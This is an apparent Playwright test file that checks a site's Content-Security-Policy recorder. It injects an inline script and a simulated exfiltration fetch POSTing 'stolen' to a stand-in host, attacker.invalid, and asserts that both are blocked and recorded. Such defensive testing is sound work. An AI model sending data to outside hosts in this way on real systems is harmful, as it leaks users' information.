// The Content-Security-Policy in use. Every journey of the suite runs under the real per-page policies
// and fails on any violation (the automatic `csp` fixture of fixtures.ts); this test proves the
// recorder behind it catches what the policy blocks, and keeps it across a navigation.
import { expect, test, waitForHydration } from './fixtures'

test.describe('the CSP recorder every journey runs with', () => {
  test.use({ cspViolationsExpected: true })

  test('an injected inline script and a fetch to another origin are blocked, recorded, and kept across a navigation', async ({ page, csp, expectConsole }) => {
    expectConsole(/Content Security Policy|Failed to fetch/)
    await page.goto('/')
    await waitForHydration(page)

    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.__x = 1'
      document.body.append(script)
    })
    await expect.poll(() => csp.violations.length).toBe(1)
    expect(csp.violations[0]).toMatchObject({ directive: 'script-src-elem', blocked: 'inline', page: '/' })
    expect(await page.evaluate(() => (window as unknown as { __x?: number }).__x)).toBeUndefined()
    expect(await csp.inPage()).toEqual(csp.violations)
    await expect.poll(() => csp.messages.length).toBeGreaterThan(0)

    // connect-src is enforced, not only written: a request to an origin it does not list never leaves.
    const fetched = await page.evaluate(() =>
      fetch('https://attacker.invalid/collect', { method: 'POST', body: 'stolen' }).then(
        () => 'sent',
        () => 'refused',
      ),
    )
    expect(fetched).toBe('refused')
    // Both policies the page is under (its <meta> and the header) list connect-src: each reports it.
    await expect.poll(() => csp.violations.length).toBe(3)
    for (const violation of csp.violations.slice(1)) {
      expect(violation).toMatchObject({ directive: 'connect-src', page: '/' })
      expect(violation.blocked).toMatch(/^https:\/\/attacker\.invalid/)
    }

    // A new document starts a new in-page array; the journey's record keeps what the last one raised.
    await page.goto('/contact')
    await waitForHydration(page)
    expect(await csp.inPage()).toEqual([])
    expect(csp.violations).toHaveLength(3)
  })
})
